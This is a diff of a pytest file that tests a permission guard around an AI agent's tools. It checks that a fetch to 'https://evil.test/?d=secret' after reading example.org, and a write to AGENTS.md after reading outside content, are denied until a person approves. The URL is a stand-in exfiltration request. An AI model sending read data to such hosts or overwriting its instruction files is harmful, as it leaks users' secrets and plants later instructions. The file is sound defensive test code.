@@ -130,10 +130,10 @@ async def test_a_made_up_address_asks_and_its_host_may_be_allowed_for_good(desk:
     result = await desk.call("fetch", url="https://evil.test/?d=secret")
     assert result.denied
     (asked,) = desk.asked
-    assert asked.lines[0] == (
+    assert asked.grounds.lines[0] == (
         "This address was made up after reading example.org, and could carry what was read from notes.md."
     )
-    assert (asked.pattern, asked.labels) == (("guard: evil.test",), ("evil.test",))
+    assert (asked.grounds.pattern, asked.grounds.labels) == (("guard: evil.test",), ("evil.test",))
     desk.approves = True
     assert (await desk.call("fetch", url="https://evil.test/?d=secret")).content == "opened"
 
@@ -173,7 +173,8 @@ async def test_a_file_that_acts_later_asks_after_others_words(desk: Desk) -> Non
     assert (await desk.call("put", path="notes.md", text="x")).content == "written"
     assert (await desk.call("put", path="AGENTS.md", text="y")).denied
     assert (desk.folder / "AGENTS.md").read_text() == "x"
-    assert desk.asked[0].lines[0].startswith("After reading example.org: AGENTS.md is changed, which acts later.")
+    (asked,) = desk.asked
+    assert asked.grounds.lines[0].startswith("After reading example.org: AGENTS.md is changed, which acts later.")
 
 
 @pytest.mark.promise("P-guard")
